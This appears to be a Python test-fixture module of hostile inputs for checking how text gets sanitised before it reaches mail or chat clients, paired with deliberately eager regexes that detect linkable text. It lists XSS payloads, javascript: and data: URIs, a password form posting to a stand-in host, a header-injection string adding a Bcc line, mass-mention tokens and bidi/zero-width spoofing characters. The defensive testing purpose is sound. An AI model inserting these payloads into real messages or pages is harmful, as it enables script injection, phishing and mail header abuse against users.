"""What attackers put into events, hoping that somebody's mail or chat client makes something of it."""

import re

TEXTS = [
    # links of every kind that clients make of plain text
    *("http://evil.example/login", "https://evil.example", "HTTPS://EVIL.EXAMPLE/A?b=c#d", "ftp://evil.example"),
    "//evil.example/x",
    *("www.evil.example", "WWW.evil.example/path", "evil.example", "evil.example/path?q=1", "login.evil.co.uk:8080/x"),
    "xn--80ak6aa92e.example",
    *("mailto:eve@evil.example", "eve@evil.example", "EVE@evil.example, mallory@evil.example", "tel:+15550100"),
    "sms:+15550100",
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "slack://open", "discord://x"),
    *("evil。example", "http://evil。example/", "www．evil．example", "eve@evil｡example", "https://user:pass@evil.example:8443/"),
    *("see (https://evil.example).", "<https://evil.example>", '"https://evil.example"', "app.py", "a.b.c.d", "..evil.example"),
    # HTML
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='http://evil.example'>Resolve</a>"),
    "</title><script>x</script>",
    *("</style><b>x</b>", "<!-- --><svg onload=alert(1)>", '" onmouseover="alert(1)', "' style='position:fixed"),
    "&lt;b&gt;&#60;i&#62;",
    *("<iframe src=//evil.example>", "<form action=//evil.example><input name=password>"),
    "<meta http-equiv=refresh content=0>",
    *("]]><![CDATA[<b>", "<base href=//evil.example/>", "<table><tr><td>", "{title}{sheet}%s{0}"),
    # Slack and Discord
    *("<!channel>", "<!here|here>", "<@U012AB3CD>", "<https://evil.example|Resolve>", "*bold* _it_ ~no~ `code`"),
    "```\n<!everyone>\n```",
    *("@everyone @here", "[Resolve](https://evil.example)", "<@&123>", "<#123>", "<t:1700000000:R>", "# Heading\n> quote"),
    *("||hidden||", ":smile:"),
    "&lt;!channel&gt;",
    # headers and lines
    *("x\r\nBcc: eve@evil.example", "x\nSubject: y", "x\r\n\r\n<b>body</b>", "\u2028x\u2029y", "a\0b"),
    "\x1b]8;;http://evil.example\x07x",
    # what hides or turns
    *("\u202egnp.exe", "\u2066x\u2069", "h\u200bttp://evil.example", "http:/\u2060/evil.example"),
    *("\ufeffwww.evil.example", "e\u00advil.example"),
    *("\ud800", "x" * 10_000, "é.example ü@ö.example", "🙂" * 300, "<" * 5_000, "`" * 3_000, "&" * 5_000, "." * 3_000),
]  # fmt: skip

# What clients make links of, each more eager than any real one.
LINKS = [
    re.compile(r"[a-z][a-z0-9+.-]*://", re.IGNORECASE),
    re.compile(r"\b(?:mailto|tel|sms|javascript|data|vbscript):\S", re.IGNORECASE),
    re.compile(r"\bwww[.。．｡]", re.IGNORECASE),
    re.compile(r"[^\s<>()\[\]\"']@[^\s<>()\[\]\"']+[.。．｡]\w"),
    re.compile(r"[^\W_][.。．｡][^\W\d_]{2,}"),
]


def links_in(text: str) -> list[str]:
    """What some client could make a link of."""
    return [found[0] for pattern in LINKS if (found := pattern.search(text))]
